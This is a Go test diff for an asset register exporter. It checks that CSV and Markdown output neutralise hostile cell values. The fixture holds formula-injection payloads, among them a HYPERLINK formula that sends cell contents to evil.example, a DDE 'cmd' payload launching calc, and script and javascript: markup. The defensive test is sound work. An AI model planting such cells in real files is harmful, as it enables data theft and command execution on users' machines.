@@ -64,3 +64,44 @@ func TestAssetRegisterGolden(t *testing.T) {
 		}
 	})
 }
+
+// Cells a spreadsheet would run, and Markdown markup, in every text column:
+// the CSV prefixes formulas with an apostrophe and leaves numbers (-12.50)
+// as numbers; the Markdown escapes markup and keeps each row one line
+// (textsafe's one rule; golden files under testdata).
+func TestAssetRegisterHostileCells(t *testing.T) {
+	lines := []costs.AssetLine{
+		{
+			CI: `=HYPERLINK("http://evil.example/?"&A1,"click")`, Kind: "SERVER", Method: "STRAIGHT_LINE", Currency: "EUR",
+			Cost: "-12.50", Accumulated: "+3", BookValue: "1000.00", Owner: "@ops|team *bold*",
+			Services: "-cmd|' /C calc'!A0; <script>x</script>", CostCenter: "@SUM(A1:A9)",
+			InService: "2024-01-01", UsefulLife: 60,
+		},
+		{
+			CI: "web_01", Kind: "SERVER", Method: "NONE", Currency: "EUR", Cost: "0.00", Accumulated: "0.00",
+			BookValue: "0.00", Owner: "two\nlines", Services: "[link](javascript:x) `code` _em_ & $x$",
+			CostCenter: "\t=1+1", UsefulLife: 12,
+		},
+	}
+	asOf := time.Date(2026, 12, 31, 0, 0, 0, 0, time.UTC)
+	for _, format := range []string{"csv", "md"} {
+		var buf bytes.Buffer
+		if err := costs.WriteAssetRegister(&buf, format, asOf, lines); err != nil {
+			t.Fatal(err)
+		}
+		golden := filepath.Join("testdata", "hostile-assets."+format+".golden")
+		if *update {
+			if err := os.WriteFile(golden, buf.Bytes(), 0o644); err != nil {
+				t.Fatal(err)
+			}
+			continue
+		}
+		want, err := os.ReadFile(golden)
+		if err != nil {
+			t.Fatalf("%v (run with -update to create it)", err)
+		}
+		if !bytes.Equal(buf.Bytes(), want) {
+			t.Errorf("%s report differs from %s (run with -update after checking):\n%s", format, golden, buf.String())
+		}
+	}
+}
